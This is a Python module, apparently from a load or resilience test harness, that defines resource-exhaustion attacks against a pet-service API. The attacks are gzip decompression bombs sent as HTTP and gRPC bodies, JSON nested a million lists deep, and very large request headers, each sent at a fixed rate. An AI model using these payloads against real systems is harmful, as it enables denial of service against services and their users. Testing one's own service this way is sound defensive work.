"""Requests that cost more to read than to send."""

import asyncio
import gzip
import struct
from functools import cache, partial

from attacks.attack import Attack, Scene
from attacks.http1 import exchange, head
from attacks.http2 import Connection, grpc_fields, opened

__all__ = ["ATTACKS"]

_PATH = "/v1/customers/good-0/pets"
_METHOD = "/pawport.v1.PetService/CreatePet"
_FRAME = 16 << 10  # bytes, of the longest frame
_UNPACKED = 64 << 20  # bytes
_ANSWER_SECONDS = 5.0


async def _paced(scene: Scene, data: bytes) -> None:
    """Sends a request so many times a second, on a connection each."""
    tasks = []
    for number in range(int(scene.size * scene.seconds)):
        await scene.at(number / scene.size)
        tasks.append(asyncio.create_task(_one(scene, data)))
    await asyncio.gather(*tasks)


async def _one(scene: Scene, data: bytes) -> None:
    scene.counts["sent"] += 1
    try:
        async with exchange(scene, data) as found:
            await found.wait(_ANSWER_SECONDS)
            scene.counts[str(found) if found.status or found.ended else "no answer"] += 1
    except OSError as error:
        scene.not_connected(error)


@cache
def _bomb() -> bytes:
    """64 MiB of spaces, compressed to 64 KiB."""
    return gzip.compress(b" " * _UNPACKED)


async def _bombs(scene: Scene) -> None:
    """Bodies that unpack to a thousand times their length."""
    more = "content-encoding: gzip"
    data = head(scene, "POST", _PATH, key=scene.company.writer, length=len(_bomb()), more=more) + _bomb()
    await _paced(scene, data)


async def _bombs_grpc(scene: Scene) -> None:
    """The same as messages of gRPC, all on one connection."""
    fields = [*grpc_fields(scene, _METHOD, scene.company.writer), ("grpc-encoding", "gzip")]
    message = struct.pack(">BI", 1, len(_bomb())) + _bomb()
    async with opened(scene) as connection:
        for number in range(int(scene.size * scene.seconds)):
            await scene.at(number / scene.size)
            stream = connection.open_stream(fields)
            await _send(connection, stream, message)
            scene.counts["sent"] += 1
            await connection.drain()
        await asyncio.sleep(1)
        scene.counts.update(connection.outcomes())


async def _send(connection: Connection, stream: int, message: bytes) -> None:
    for first in range(0, len(message), _FRAME):
        part = message[first : first + _FRAME]
        if not await connection.wait_for_room(stream, len(part)):
            return
        connection.data(stream, part, end=first + len(part) == len(message))


async def _deep(scene: Scene) -> None:
    """JSON of 1 MB that is one list in another."""
    body = b'{"pet":' + b"[" * 1_000_000
    await _paced(scene, head(scene, "POST", _PATH, key=scene.company.writer, length=len(body)) + body)


async def _headers(scene: Scene, *, size: int) -> None:
    """Heads with one large field."""
    await _paced(scene, head(scene, "GET", f"{_PATH}/good-pet-0", more=f"x-large: {'x' * size}"))


ATTACKS = [
    Attack(
        "gzip-bombs", "20 JSON bodies a second of 64 KiB that unpack to 64 MiB", _bombs, 20, a_second=True
    ),
    Attack(
        "gzip-bombs-grpc",
        "20 messages of gRPC a second of 64 KiB that unpack to 64 MiB",
        _bombs_grpc,
        20,
        a_second=True,
    ),
    Attack(
        "deep-json", "10 JSON bodies a second of 1 MB, a list in a list in a list", _deep, 10, a_second=True
    ),
    Attack(
        "large-headers",
        "100 requests a second with a header of 50 KB",
        partial(_headers, size=50_000),
        100,
        a_second=True,
    ),
    Attack(
        "larger-headers",
        "100 requests a second with a header of 1 MB",
        partial(_headers, size=1_000_000),
        100,
        a_second=True,
    ),
]
